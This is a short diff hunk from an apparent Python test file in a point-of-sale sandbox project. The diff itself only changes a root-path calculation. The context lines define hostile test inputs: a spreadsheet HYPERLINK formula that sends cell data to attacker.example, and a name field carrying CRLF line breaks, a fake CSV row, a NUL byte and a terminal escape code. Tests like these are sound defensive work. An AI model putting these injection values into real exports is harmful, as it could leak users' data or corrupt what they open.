@@ -27,7 +27,7 @@ from pos_sandbox.server import serving
 from tests.conftest import make_settings
 from tests.hostile import altered_sandbox
 
-ROOT = Path(__file__).resolve().parent.parent
+ROOT = Path(__file__).resolve().parents[2]
 DAY1, DAY2 = date(2026, 11, 19), date(2026, 11, 20)
 FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click me")'
 NAMES = {"Bar": FORMULA, "Bankomat": "Bankomat\r\nFAKE;\"1\";2\x00\x1b[2J ł€"}
